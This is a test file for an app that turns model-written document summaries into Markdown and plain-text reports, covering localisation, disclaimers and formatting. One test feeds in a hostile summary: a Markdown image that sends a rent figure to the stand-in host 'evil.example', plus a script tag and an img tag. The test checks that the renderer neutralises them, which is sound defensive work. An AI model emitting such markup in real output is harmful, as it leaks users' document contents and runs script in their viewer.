import { describe, expect, it } from 'vitest'
import { reportAsMarkdown, reportAsText } from '../../../electron/runner/report/as-markdown.ts'
import { dayOf } from '../../../electron/runner/report/report.ts'
import { zoneSchema } from '../../../shared/model/brand.ts'
import { at } from '../../helpers/things.ts'
import { sampleReport } from './sample.ts'

describe('a report as Markdown', () => {
  it('says what, when, over how much, by which model, and everything that was found and left out', () => {
    expect(reportAsMarkdown(sampleReport())).toBe(`# What matters

Contracts & minutes · November 24, 2026 · 2 documents · 1 left out · Made with Vendor Small

A model wrote these summaries and can be wrong. Check what matters in the documents themselves.

Asked to look out for: prices & dates

## At a glance

Rent rises **3 %** from May.

- Pay by 30 April

## Documents

### contracts/lease.pdf

12 pages · 2 pages are pictures only and were not read.

#### Rent

The rent is **4,200 euros**.

| Month | Euros |
| ----- | ----: |
| May   | 4,326 |

### 会议纪要.txt

1. 周一开会
2. 周五前联系供应商

The model reached its limit, so this text ends early.

## Left out

- **old \\<scan>.pdf**: The document has no text in it. Make the text readable with a scanner program first.
`)
  })

  it('speaks the owner’s language', () => {
    const markdown = reportAsMarkdown(sampleReport({ title: '要点', order: { language: 'zh-CN' } }))
    expect(markdown).toContain(
      'Contracts & minutes · 2026年11月24日 · 2 份文档 · 1 项未纳入 · 使用的模型：Vendor Small',
    )
    for (const heading of ['# 要点', '## 总览', '## 各份文档', '## 未纳入的内容'])
      expect(markdown).toContain(`${heading}\n`)
    expect(markdown).toContain('12 页 · 有 2 页只有图片，未能读取。')
    expect(markdown).toMatch(/\*\*old \\<scan>\.pdf\*\*: \p{Script=Han}+/u)
    expect(markdown).not.toMatch(/errors\.|report\.|\{\{/)
  })

  it.each([
    ['en', 'It is not AI'],
    ['zh-CN', '它不是人工智能'],
  ] as const)('says in plain words that the practice model is no AI (%s)', (language, words) => {
    const markdown = reportAsMarkdown(sampleReport({ order: { modelIsPractice: true, language } }))
    expect(markdown).toContain(words)
    expect(markdown).not.toContain('can be wrong')
  })

  it('does without an overview, a focus or left-out documents when there are none', () => {
    const markdown = reportAsMarkdown(sampleReport({ summaries: { overall: null, focus: ' ', leftOut: [] } }))
    for (const word of ['At a glance', 'Left out', 'left out', 'look out for']) expect(markdown).not.toContain(word)
  })

  it('keeps what a model writes from loading, linking or scripting anything', () => {
    const summary =
      'See ![chart](http://evil.example/a.png?rent=4200) and [this](http://evil.example) <img src=x> <script>alert(1)</script>\n\n[a]: http://evil.example'
    const overall = { text: summary, shortened: false }
    const markdown = reportAsMarkdown(sampleReport({ summaries: { overall } }))
    expect(markdown).not.toMatch(/(?<!\\)!?(?<!\\)\[[^\]\\]*\]\(/)
    expect(markdown).not.toMatch(/(?<!\\)<(?:img|script)/)
    expect(markdown).toContain('evil.example')
  })

  it('falls back to a plain title', () => {
    expect(reportAsMarkdown(sampleReport({ title: '  ' }))).toMatch(/^# Report\n/)
  })
})

describe('a report as plain text', () => {
  it('is readable without any marks', () => {
    const text = reportAsText(sampleReport())
    expect(text).toMatch(/^What matters\n============\n\n/)
    expect(text).toContain('\nAt a glance\n-----------\n\nRent rises 3 % from May.\n\n- Pay by 30 April\n')
    expect(text).toContain('\n会议纪要.txt\n\n1. 周一开会\n2. 周五前联系供应商\n')
    expect(text).toContain('Month | Euros\nMay | 4,326')
    expect(text).toContain('- old <scan>.pdf: The document has no text in it.')
    expect(text).not.toMatch(/\*\*|##|\\/)
    expect(text.endsWith('\n')).toBe(true)
  })

  it('underlines Chinese titles in their width', () => {
    expect(reportAsText(sampleReport({ title: '要点' }))).toMatch(/^要点\n====\n/)
  })

  it('shows nested lists, quotes and code as a person would type them', () => {
    const text = '- one\n  - two\n    more\n\n> quoted\n\n```\ncode\n  deep\n```\n\n---\n\nline  \nbreak `x`'
    const report = reportAsText(sampleReport({ summaries: { overall: { text, shortened: false } } }))
    expect(report).toContain('- one\n  - two\n    more\n\n> quoted\n\n    code\n      deep\n\n* * *\n\nline\nbreak x')
  })
})

describe('the day in a file name', () => {
  it.each([
    ['2026-11-23T22:30:00Z', 'UTC', '2026-11-23'],
    ['2026-11-23T22:30:00Z', 'Asia/Shanghai', '2026-11-24'],
    ['2026-01-01T04:00:00Z', 'America/New_York', '2025-12-31'],
  ])('of %s in %s is %s', (instant, zone, day) => {
    expect(dayOf(at(instant), zoneSchema.parse(zone))).toBe(day)
  })
})
